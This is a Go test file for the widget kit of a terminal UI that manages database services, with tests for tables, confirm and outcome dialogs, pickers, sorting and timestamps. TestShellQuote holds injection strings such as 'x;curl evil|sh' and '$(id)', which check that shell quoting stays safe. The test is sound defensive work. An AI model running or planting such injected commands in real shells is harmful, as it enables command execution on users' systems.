package kit

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"charm.land/bubbles/v2/key"
	tea "charm.land/bubbletea/v2"
	"github.com/charmbracelet/x/ansi"

	"github.com/skytui/skytui/api"
	"github.com/skytui/skytui/theme"
)

func common() *Common { return &Common{Theme: theme.Default()} }

func rows(n int) []Row {
	out := make([]Row, n)
	for i := range out {
		out[i] = Row{ID: fmt.Sprint(i), Cells: []string{fmt.Sprintf("name-%05d", i), fmt.Sprintf("id-%d", i), "ready", strings.Repeat("x", 30)},
			Kinds: []theme.Kind{0, 0, theme.KindOK}}
	}
	return out
}

func cols() []Column {
	return []Column{
		{Title: "NAME", Min: 10, Max: 20, Priority: 9},
		{Title: "ID", Min: 4, Max: 10, Priority: 8},
		{Title: "STATUS", Min: 6, Max: 10, Priority: 7},
		{Title: "LONG", Min: 20, Max: 40, Priority: 1},
	}
}

func TestTableRendersOnlyVisibleRows(t *testing.T) {
	tb := NewTable(common(), cols())
	tb.SetRows(rows(10000))
	tb.SetSize(80, 10)
	out := ansi.Strip(tb.View())
	lines := strings.Split(out, "\n")
	if len(lines) != 10 {
		t.Fatalf("%d lines for a height of 10", len(lines))
	}
	if !strings.Contains(lines[1], "name-00000") || strings.Contains(out, "name-00009") {
		t.Fatalf("wrong rows:\n%s", out)
	}
	tb.Update(tea.KeyPressMsg{Code: 'G', Text: "G"})
	out = ansi.Strip(tb.View())
	if !strings.Contains(out, "> name-09999") {
		t.Fatalf("G did not reach the last row:\n%s", out)
	}
}

func TestTableFitsWidthAndDropsLowPriority(t *testing.T) {
	tb := NewTable(common(), cols())
	tb.SetRows(rows(5))
	tb.SetSize(40, 6)
	for i, l := range strings.Split(tb.View(), "\n") {
		if w := ansi.StringWidth(l); w > 40 {
			t.Errorf("line %d is %d wide", i, w)
		}
	}
	if strings.Contains(ansi.Strip(tb.View()), "LONG") {
		t.Error("the lowest priority column was not dropped at 40 columns")
	}
	tb.SetSize(100, 6)
	if !strings.Contains(ansi.Strip(tb.View()), "LONG") {
		t.Error("the column did not come back at 100 columns")
	}
}

func TestTableCursorByIDAndFilter(t *testing.T) {
	tb := NewTable(common(), cols())
	tb.SetRows(rows(50))
	tb.SetSize(80, 10)
	tb.Select("42")
	// rows replaced, reordered
	r := rows(50)
	for i, j := 0, len(r)-1; i < j; i, j = i+1, j-1 {
		r[i], r[j] = r[j], r[i]
	}
	tb.SetRows(r)
	if tb.SelectedID() != "42" {
		t.Fatalf("cursor on %q after reorder", tb.SelectedID())
	}
	tb.SetFilter("name-0004")
	if tb.Len() != 10 || tb.SelectedID() != "42" {
		t.Fatalf("filter: %d rows, selected %q", tb.Len(), tb.SelectedID())
	}
	if !strings.Contains(ansi.Strip(tb.View()), "10 of 50") {
		t.Fatalf("no filter line:\n%s", ansi.Strip(tb.View()))
	}
}

func TestConfirmStartsOnNoAndAnswersOnce(t *testing.T) {
	d := NewConfirm(common(), 7, Confirm{Kind: ConfirmYesNo, Title: "Sure?"})
	if d.OnYes() {
		t.Fatal("cursor starts on yes")
	}
	_, cmd := d.Update(tea.KeyPressMsg{Code: tea.KeyRight})
	if !d.OnYes() || cmd != nil {
		t.Fatal("right does not move to yes")
	}
	_, cmd = d.Update(tea.KeyPressMsg{Code: tea.KeyEnter})
	if got := cmd(); got != (ConfirmedMsg{ID: 7, Yes: true}) {
		t.Fatalf("answer %#v", got)
	}
	if _, cmd := d.Update(tea.KeyPressMsg{Code: tea.KeyEnter}); cmd != nil {
		t.Fatal("answered twice")
	}
}

func TestCopySequence(t *testing.T) {
	none := func(string) string { return "" }
	if got := CopySequence(none, "pw"); got != "\x1b]52;c;cHc=\a" {
		t.Fatalf("plain OSC 52 = %q", got)
	}
	tmux := func(k string) string {
		if k == "TMUX" {
			return "/tmp/tmux-0/default,1,0"
		}
		return ""
	}
	got := CopySequence(tmux, "pw")
	if !strings.HasPrefix(got, "\x1bPtmux;\x1b\x1b]52;c;cHc=") || !strings.HasSuffix(got, "\x1b\\") {
		t.Fatalf("tmux passthrough = %q", got)
	}
}

// A detail pane taller than its area ends with a line saying what is
// below and above and the keys that go there (J, K): at the top what is
// below, scrolled what is hidden above too (the title off-screen), at the
// end what is above, never a line the pane's text loses.
func TestDetailWrapsAndScrolls(t *testing.T) {
	d := NewDetail(common())
	d.SetSize(30, 4)
	d.SetContent("svc", []Section{{Fields: []Field{{Label: "Allow", Value: "a\nb\nc\nd\ne"}}}})
	// the lines: svc, "", a, b, c, d, e
	view := func() []string { return strings.Split(ansi.Strip(d.View()), "\n") }
	for _, step := range []struct {
		by   int
		last string
		text []string
	}{
		{0, "~ J: 4 more lines", []string{"svc"}},
		{2, "~ J: 2 more lines, K: 2 lines above", []string{"a", "b", "c"}},
		{10, "~ K: 4 lines above", []string{"c", "d", "e"}},
		{-1, "~ J: 1 more line, K: 3 lines above", []string{"b", "c", "d"}},
	} {
		d.ScrollBy(step.by)
		v := view()
		if len(v) != 4 || strings.TrimSpace(v[3]) != step.last {
			t.Fatalf("scrolled by %d:\n%s", step.by, strings.Join(v, "\n"))
		}
		for i, want := range step.text {
			if got := strings.TrimSpace(strings.TrimPrefix(strings.TrimSpace(v[i]), "Allow")); got != want {
				t.Fatalf("scrolled by %d, line %d is %q, want %q:\n%s", step.by, i, got, want, strings.Join(v, "\n"))
			}
		}
	}
}

// A command built from API values and pasted into a shell runs exactly
// its words: a username like x;curl … stays one argument.
func TestShellQuote(t *testing.T) {
	cases := map[string]string{
		"orders-prod.db.example.com": "orders-prod.db.example.com",
		"gs://bkt/path/":             "gs://bkt/path/",
		"x;curl evil|sh":             `'x;curl evil|sh'`,
		"it's":                       `'it'\''s'`,
		"$(id)":                      `'$(id)'`,
		"":                           "''",
	}
	for in, want := range cases {
		if got := ShellQuote(in); got != want {
			t.Errorf("ShellQuote(%q) = %q, want %q", in, got, want)
		}
	}
	if got := ShellCommand("mariadb", "--user", "a b"); got != "mariadb --user 'a b'" {
		t.Errorf("ShellCommand = %q", got)
	}
}

// The outcome dialog keeps its buttons on screen whatever the API said:
// a long error and many findings are cut, not the choices.
func TestOutcomeDialogKeepsItsButtons(t *testing.T) {
	d := NewOutcomeDialog(common(), 1, "restore into orders-prod", strings.Repeat("a long transport error ", 40), "the restores of orders-prod", true)
	var found []string
	for i := range 12 {
		found = append(found, fmt.Sprintf("restore %d into orders-prod: Running", i))
	}
	d.Checked(OutcomeCheckedMsg{ID: 1, Found: found})
	d.SetSize(56, 12)
	out := d.View()
	if !strings.Contains(out, "[ Leave it ]") || !strings.Contains(out, "[ Send again ]") {
		t.Fatalf("the buttons are off the dialog:\n%s", out)
	}
	if n := strings.Count(out, "\n") + 1; n > 12 {
		t.Fatalf("the dialog is %d lines high in 12:\n%s", n, out)
	}
}

// TestOutcomeDialogFitsItsArea: in the dialog area of a 60x16 and of an
// 80x24 terminal the box takes the width it has (76 at most), the title
// and what was seen are wrapped whole, never cut, and what was seen, the
// verdict and the buttons stay in view: on the short terminal the
// explanation gives way (to its short form when there is room), then the
// hint line, and findings beyond the room are counted.
func TestOutcomeDialogFitsItsArea(t *testing.T) {
	type size struct {
		term       string
		w, h, boxW int
	}
	small, usual := size{"60x16", 56, 11, 56}, size{"80x24", 76, 19, 76}
	// view renders d in sz, checks its height and width, and returns it
	// without styles, and as its words (the box's sides read as spaces)
	view := func(d *OutcomeDialog, sz size) (string, string) {
		t.Helper()
		d.SetSize(sz.w, sz.h)
		out := ansi.Strip(d.View())
		lines := strings.Split(out, "\n")
		if len(lines) > sz.h {
			t.Errorf("%s: the dialog is %d lines in %d:\n%s", sz.term, len(lines), sz.h, out)
		}
		if w := ansi.StringWidth(lines[0]); w != sz.boxW {
			t.Errorf("%s: the box is %d wide, want %d", sz.term, w, sz.boxW)
		}
		side := d.common.Theme.Glyphs.BoxV
		return out, strings.Join(strings.Fields(strings.ReplaceAll(out, side, " ")), " ")
	}
	// shows fails unless every one of want reads whole in words
	shows := func(sz size, out, words string, want ...string) {
		t.Helper()
		for _, w := range want {
			if !strings.Contains(words, w) {
				t.Errorf("%s: %q is not in view whole:\n%s", sz.term, w, out)
			}
		}
	}
	ell := common().Theme.Glyphs.Ellipsis
	verdict := "It was most likely carried out: sending it again would do it twice."
	keys := []string{"[ Leave it ] [ Send again ]", "enter choose esc leave it"}

	// what QA saw: a scale, what it did and two other services' changes
	name, seen := "scale orders-prod nodes 2 -> 3", "orders-prod (dbtaf85489797): pending_scale"
	found := []string{"dev-serverless (dbtgf42942879): pending_start", "replica-west (dbtaf93155232): pending_stop"}
	for _, sz := range []size{small, usual} {
		d := NewOutcomeDialog(common(), 1, name, "EOF", "the services", true)
		d.ChecksEffect()
		d.Checked(OutcomeCheckedMsg{ID: 1, Found: found})
		d.Seen(seen)
		out, words := view(d, sz)
		if strings.Contains(out, ell) {
			t.Errorf("%s: something is cut:\n%s", sz.term, out)
		}
		shows(sz, out, words, append(append([]string{"Outcome unknown: " + name, "Seen in the services since it was sent:", seen, verdict}, found...), keys...)...)
		if explained := strings.Contains(words, "The server may or may not have carried it out."); explained != (sz == usual) {
			t.Errorf("%s: the explanation shown: %v:\n%s", sz.term, explained, out)
		}
	}

	// a title and a finding longer than a line wrap, whole
	long := "scale analytics-warehouse-eu-west storage 1000 GB -> 2000 GB"
	longSeen := "analytics-warehouse-eu-west (dbtgf82655032): pending_scale since 2026-11-24 11:29"
	d := NewOutcomeDialog(common(), 2, long, "EOF", "the services", true)
	d.ChecksEffect()
	d.Checked(OutcomeCheckedMsg{ID: 2})
	d.Seen(longSeen)
	out, words := view(d, usual)
	shows(usual, out, words, append([]string{"Outcome unknown: " + long, longSeen, verdict}, keys...)...)
	// on the short terminal too, the finding counted if it cannot be listed
	out, words = view(d, small)
	shows(small, out, words, append([]string{"Outcome unknown: " + long, verdict}, keys...)...)

	// nothing found on the short terminal: the short explanation stays
	d = NewOutcomeDialog(common(), 3, "stop replica-west", "EOF", "the services", true)
	d.Checked(OutcomeCheckedMsg{ID: 3})
	out, words = view(d, small)
	shows(small, out, words, append([]string{"No answer came back (EOF).", "It was probably not carried out"}, keys...)...)

	// more findings than the room: the hint line gives way (the footer has
	// its keys), then as many as fit are listed whole, the rest counted
	d = NewOutcomeDialog(common(), 4, name, "EOF", "the services", true)
	var many []string
	for i := range 9 {
		many = append(many, fmt.Sprintf("svc-%d (dbtaf0000000%d): pending_stop", i, i))
	}
	d.Checked(OutcomeCheckedMsg{ID: 4, Found: many})
	out, words = view(d, small)
	shows(small, out, words, "svc-0 (dbtaf00000000): pending_stop", "svc-1 (dbtaf00000001): pending_stop", " more", verdict, keys[0])
}

// TestDialogHintsAreTheirBindings: the dialogs' hint lines are generated
// from the bindings their Update matches, and read as they always did.
func TestDialogHintsAreTheirBindings(t *testing.T) {
	if got := HintLine(newPickerKeys().Choose, DefaultTableKeys.Filter, newPickerKeys().Cancel); got != "enter choose  / filter  esc cancel" {
		t.Errorf("picker hint %q", got)
	}
	p := NewPicker(common(), "Which?", "x", nil)
	p.SetSize(60, 20)
	// typing filters a picker: "/" is no hint there
	if out := ansi.Strip(p.View()); !strings.Contains(out, "enter choose  esc cancel") || strings.Contains(out, "/ filter") {
		t.Errorf("picker:\n%s", out)
	}
	yn := NewConfirm(common(), 1, Confirm{Kind: ConfirmYesNo})
	yn.SetSize(80, 20)
	if out := ansi.Strip(yn.View()); !strings.Contains(out, "y yes  n/esc no  <-/-> move  enter choose") {
		t.Errorf("yes/no:\n%s", out)
	}
	typed := NewConfirm(common(), 2, Confirm{Kind: ConfirmTypeName, Name: "db"})
	typed.SetSize(80, 20)
	if out := ansi.Strip(typed.View()); !strings.Contains(out, "Type db to confirm, esc to cancel:") {
		t.Errorf("type the name:\n%s", out)
	}
	if _, cmd := typed.Update(tea.KeyPressMsg{Code: tea.KeyEnter}); cmd != nil || !typed.wrong {
		t.Error("enter with nothing typed answered")
	}
	if _, cmd := typed.Update(tea.KeyPressMsg{Code: tea.KeyEscape}); cmd == nil || cmd() != (ConfirmedMsg{ID: 2}) {
		t.Error("esc did not answer no")
	}
	o := NewOutcomeDialog(common(), 3, "x", "timeout", "the list", true)
	o.SetSize(80, 20)
	if out := ansi.Strip(o.View()); !strings.Contains(out, "esc leave it  (send again once the list is read)") {
		t.Errorf("outcome while checking:\n%s", out)
	}
	o.Checked(OutcomeCheckedMsg{ID: 3})
	if out := ansi.Strip(o.View()); !strings.Contains(out, "enter choose  esc leave it  <-/-> move") {
		t.Errorf("outcome:\n%s", out)
	}
	// a binding without help, or disabled, is left out
	off := DefaultTableKeys.Filter
	off.SetEnabled(false)
	if got := HintLine(DefaultTableKeys.Up, off, key.NewBinding(key.WithKeys("x")), moveBinding(), newConfirmKeys().Yes); got != "up/k move up  <-/-> move  y yes" {
		t.Errorf("HintLine %q", got)
	}
}

// A list given orders: s cycles through them, each in its natural
// direction first, S reverses; both re-sort, are listed in the help after
// the screen's keys, and the status line's note says the order.
func TestListViewSort(t *testing.T) {
	c := &Common{Theme: theme.Default()}
	l := NewListView(c, "Things", "things", []Column{{Title: "NAME", Min: 4, Max: 10}})
	sorts := 0
	l.Rebuild = func() { sorts++ }
	l.SetSort(0, Asc("name"), Desc("created"))
	press := func(k string) {
		msg, _ := KeyPress(k)
		if used, _ := l.HandleKey(msg); !used {
			t.Fatalf("%s not used", k)
		}
	}
	type order struct {
		by   int
		desc bool
	}
	steps := []struct {
		key  string
		want order
		note string
	}{
		{"s", order{1, true}, "sort: created " + c.Theme.Glyphs.SortDesc},
		{"S", order{1, false}, "sort: created " + c.Theme.Glyphs.SortAsc},
		{"s", order{0, false}, "sort: name " + c.Theme.Glyphs.SortAsc},
		{"S", order{0, true}, "sort: name " + c.Theme.Glyphs.SortDesc},
	}
	for i, st := range steps {
		press(st.key)
		if by, desc := l.SortOrder(); (order{by, desc}) != st.want || l.SortNote() != st.note || sorts != i+1 {
			t.Fatalf("after %s: order %d %v, note %q, %d sorts", st.key, by, desc, l.SortNote(), sorts)
		}
	}
	own := Bind("n", "new thing")
	full := l.KeyMap(nil, own).FullHelp()[0]
	var helps []string
	for _, b := range full {
		helps = append(helps, b.Help().Key+" "+b.Help().Desc)
	}
	if got := strings.Join(helps, ", "); !strings.Contains(got, "n new thing, s sort: name/created, S reverse sort") {
		t.Fatalf("help %s", got)
	}
	plain := NewListView(c, "Things", "things", []Column{{Title: "NAME", Min: 4, Max: 10}})
	s, _ := KeyPress("s")
	if used, _ := plain.HandleKey(s); used || plain.SortNote() != "" {
		t.Fatal("a list without orders took s")
	}
}

// The clock's tick makes a list's rows again while they show times that
// move (a running restore's elapsed time), and leaves them be when all is
// settled, so "3m ago" stays current without rebuilding idle lists.
func TestListViewClockRebuildsWhileMoving(t *testing.T) {
	c := &Common{Theme: theme.Default()}
	l := NewListView(c, "Things", "things", []Column{{Title: "NAME", Min: 4, Max: 10}})
	rebuilt, moving := 0, false
	l.Rebuild = func() { rebuilt++ }
	l.Update(ClockMsg{})
	if rebuilt != 1 {
		t.Fatalf("no Moving: a tick rebuilds every time; rebuilt %d", rebuilt)
	}
	l.Moving = func() bool { return moving }
	l.Update(ClockMsg{})
	if rebuilt != 1 {
		t.Fatalf("nothing moves: the tick rebuilt the rows")
	}
	moving = true
	l.Update(ClockMsg{})
	if rebuilt != 2 {
		t.Fatalf("something moves: the tick did not rebuild the rows")
	}
}

// A picker takes a typed name as its filter without "/" first (a key is
// never lost), whatever its first letter: q, j, k, g and G are the name's
// ("qa4-svc" is typed, the picker stays open), the arrows move, and esc
// clears the name typed, then cancels.
func TestPickerTypeToFilter(t *testing.T) {
	c := &Common{Theme: theme.Default()}
	p := NewPicker(c, "Backups of which service?", "backups", []api.Service{
		{ID: "dbtgf00000001", Name: "analytics-gcp", Status: "ready"},
		{ID: "dbtaf00000002", Name: "gcp-eu", Status: "ready"},
		{ID: "dbtaf00000003", Name: "qa4-svc", Status: "ready"},
		{ID: "dbtaf00000004", Name: "replica-west", Status: "ready"},
	})
	p.SetSize(80, 20)
	var d Dialog = p
	press := func(k string) tea.Cmd {
		msg, _ := KeyPress(k)
		var cmd tea.Cmd
		d, cmd = d.Update(msg)
		return cmd
	}
	picked := func(cmd tea.Cmd) *PickedMsg {
		if cmd == nil {
			return nil
		}
		seq := reflect.ValueOf(cmd()) // tea.Sequence's message: a slice of commands
		for i := 0; seq.Kind() == reflect.Slice && i < seq.Len(); i++ {
			if m, ok := seq.Index(i).Interface().(tea.Cmd)().(PickedMsg); ok {
				return &m
			}
		}
		return nil
	}
	press("down")
	if r, _ := p.table.Selected(); r.ID != "dbtaf00000002" || p.table.Filtering() {
		t.Fatalf("down: selected %q, filtering %v", r.ID, p.table.Filtering())
	}
	for _, k := range []string{"q", "a", "4"} {
		if cmd := press(k); picked(cmd) != nil || p.done {
			t.Fatalf("%q typed in the name closed the picker", k)
		}
	}
	press("/") // the filter's key out of habit: not typed into the name
	if p.table.Filter() != "qa4" || p.table.Len() != 1 {
		t.Fatalf("typed qa4 and /: filter %q, %d rows", p.table.Filter(), p.table.Len())
	}
	// the name typed is kept, and enter chooses at once
	if got := picked(press("enter")); got == nil || got.ID != "dbtaf00000003" {
		t.Fatalf("picked %+v, want qa4-svc", got)
	}

	p = NewPicker(c, "Backups of which service?", "backups", []api.Service{
		{ID: "dbtgf00000001", Name: "analytics-gcp"}, {ID: "dbtaf00000002", Name: "gcp-eu"}})
	p.SetSize(80, 20)
	d = p
	for _, k := range []string{"G", "g", "j", "k"} {
		press(k)
	}
	if p.table.Filter() != "Ggjk" || p.done {
		t.Fatalf("G g j k: filter %q, closed %v", p.table.Filter(), p.done)
	}
	press("esc")
	if p.table.Filter() != "" || p.done {
		t.Fatalf("esc while typing: filter %q, closed %v", p.table.Filter(), p.done)
	}
	if got := picked(press("esc")); got == nil || got.ID != "" {
		t.Fatalf("esc then esc: %+v, want cancelled", got)
	}
}

// The allow list's evidence names each address with its comment: a
// comment set on an address already listed shows as what appeared.
func TestAllowListEvidenceNamesComments(t *testing.T) {
	answers := []string{
		`[{"name":"primary","allow_list":[{"ip":"203.0.113.7/32"}]}]`,
		`[{"name":"primary","allow_list":[{"ip":"203.0.113.7/32","comment":"office VPN"}]}]`,
	}
	n := 0
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, answers[min(n, len(answers)-1)])
		n++
	}))
	t.Cleanup(srv.Close)
	cl, err := api.New(api.Config{BaseURL: srv.URL, APIKey: "k"})
	if err != nil {
		t.Fatal(err)
	}
	read := AllowListEvidence(cl, "dbtaf00000001", "orders-prod")
	before, err1 := read(context.Background())
	after, err2 := read(context.Background())
	if err1 != nil || err2 != nil {
		t.Fatal(err1, err2)
	}
	var appeared []string
	for k, v := range after {
		if _, ok := before[k]; !ok {
			appeared = append(appeared, v)
		}
	}
	if len(appeared) != 1 || !strings.Contains(appeared[0], `"office VPN"`) {
		t.Fatalf("what appeared: %q", appeared)
	}
}

// TestDetailOpensAtTheTop: a detail pane scrolled down shows the next
// record, and the same record opened again, from the top (its name and
// status), not where the last one was left.
func TestDetailOpensAtTheTop(t *testing.T) {
	l := NewListView(common(), "Things", "things", cols())
	var secs []Section
	for i := range 30 {
		secs = append(secs, Section{Title: fmt.Sprint("S", i), Fields: []Field{{Label: "k", Value: "v"}}})
	}
	l.DetailOf = func(id string) (string, []Section, bool) { return "record " + id, secs, true }
	l.SetSize(80, 24)
	l.SetRows([]Row{{ID: "a", Cells: []string{"a"}}, {ID: "b", Cells: []string{"b"}}})
	l.ShowDetail(true)
	l.Detail.ScrollBy(10)
	top := func() string { return strings.Split(ansi.Strip(l.Detail.View()), "\n")[0] }
	if strings.Contains(top(), "record a") {
		t.Fatalf("the test needs a scrolled pane: %q", top())
	}
	l.Table.Select("b")
	l.RefreshDetail()
	if !strings.Contains(top(), "record b") {
		t.Errorf("the next record opens at %q, want its title", top())
	}
	l.Detail.ScrollBy(10)
	l.ShowDetail(false)
	l.ShowDetail(true)
	if !strings.Contains(top(), "record b") {
		t.Errorf("reopened, the pane starts at %q", top())
	}
}

// TestEscClosesThePaneBeforeTheFilter: with a kept filter and the detail
// pane open, the footer says "esc close": esc closes the pane and keeps
// the filter; the next esc clears the filter; the one after is not the
// list's (the screen's or the root's: back).
func TestEscClosesThePaneBeforeTheFilter(t *testing.T) {
	l := NewListView(common(), "Things", "things", cols())
	l.DetailOf = func(id string) (string, []Section, bool) { return "record " + id, nil, true }
	l.SetSize(80, 24)
	l.SetRows([]Row{{ID: "apple", Cells: []string{"apple"}}, {ID: "berry", Cells: []string{"berry"}}})
	l.Table.SetFilter("app")
	l.ShowDetail(true)
	var footer []string
	for _, b := range l.KeyMap([]key.Binding{l.Keys.Detail}).ShortHelp() {
		footer = append(footer, b.Help().Key+" "+b.Help().Desc)
	}
	if !slices.Contains(footer, "esc close") {
		t.Fatalf("the footer does not say esc closes the pane: %v", footer)
	}
	esc := tea.KeyPressMsg{Code: tea.KeyEscape}
	if used, _ := l.HandleKey(esc); !used || l.DetailShown() || l.Table.Filter() != "app" {
		t.Fatalf("esc: used %v, pane %v, filter %q; want the pane closed, the filter kept", used, l.DetailShown(), l.Table.Filter())
	}
	footer = nil
	for _, b := range l.KeyMap([]key.Binding{l.Keys.Detail}).ShortHelp() {
		footer = append(footer, b.Help().Key+" "+b.Help().Desc)
	}
	if !slices.Contains(footer, "esc clear filter") {
		t.Fatalf("with the pane closed, the footer does not say esc clears the kept filter: %v", footer)
	}
	if used, _ := l.HandleKey(esc); !used || l.Table.Filter() != "" {
		t.Fatalf("second esc: used %v, filter %q; want the filter cleared", used, l.Table.Filter())
	}
	if used, _ := l.HandleKey(esc); used {
		t.Fatal("a third esc is the screen's, not the list's")
	}
}

// TestResourceTitle: the message log names what a refresh read, a
// service by its name where the listing knows it, never the engine's key.
func TestResourceTitle(t *testing.T) {
	name := func(id string) string {
		if id == "dbtaf00000001" {
			return "orders-prod"
		}
		return ""
	}
	for key, want := range map[string]string{
		ServicesKey.String():                   "the services listing",
		RestoresKey.String():                   "the restores listing",
		AllBackupsKey.String():                 "the backups of every service",
		BackupsKey("dbtaf00000001").String():   "the backups of orders-prod (dbtaf00000001)",
		SchedulesKey("dbtaf00000002").String(): "the backup schedules of dbtaf00000002",
		AllowListKey("dbtaf00000001").String(): "the allow list of orders-prod (dbtaf00000001)",
		"somewhere/else":                       "somewhere/else",
	} {
		if got := ResourceTitle(key, name); got != want {
			t.Errorf("%s: %q, want %q", key, got, want)
		}
	}
}

// TestStampSaysTheYearFarOff: a moment within about six months reads with
// its time, one further off (past or future) with its year, in the same
// twelve columns: "Oct 21" of last year read as last month.
func TestStampSaysTheYearFarOff(t *testing.T) {
	now := time.Date(2026, 11, 25, 12, 0, 0, 0, time.UTC)
	for at, want := range map[time.Time]string{
		time.Date(2026, 11, 20, 1, 2, 0, 0, time.UTC): "Nov 20 01:02",
		time.Date(2026, 6, 1, 1, 2, 0, 0, time.UTC):   "Jun 01 01:02",
		time.Date(2025, 10, 21, 1, 2, 0, 0, time.UTC): "Oct 21  2025",
		time.Date(2027, 9, 1, 0, 0, 0, 0, time.UTC):   "Sep 01  2027",
	} {
		if got := Stamp(at, now); got != want || len(got) != 12 {
			t.Errorf("Stamp(%s) = %q, want %q", at.Format(time.RFC3339), got, want)
		}
	}
}

// TestBackupJobsEvidenceSaysTheListsWord: a backup seen after a lost
// answer is named with the word the lists use (in progress), not the
// API's (Running).
func TestBackupJobsEvidenceSaysTheListsWord(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		if strings.Contains(r.URL.Path, "schedules") {
			io.WriteString(w, `[]`)
			return
		}
		io.WriteString(w, `[{"key":"0fcfb30530e0aa:dbtaf00000001:pod","service_id":"dbtaf00000001","type":"full","status":"Running"}]`)
	}))
	t.Cleanup(srv.Close)
	cl, err := api.New(api.Config{BaseURL: srv.URL, APIKey: "k"})
	if err != nil {
		t.Fatal(err)
	}
	seen, err := BackupJobsEvidence(cl, "dbtaf00000001")(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if got := seen["backup/0fcfb30530e0aa:dbtaf00000001:pod"]; got != "backup 0fcfb30530e0: full, in progress" {
		t.Errorf("evidence %q, want the lists' word", got)
	}
}
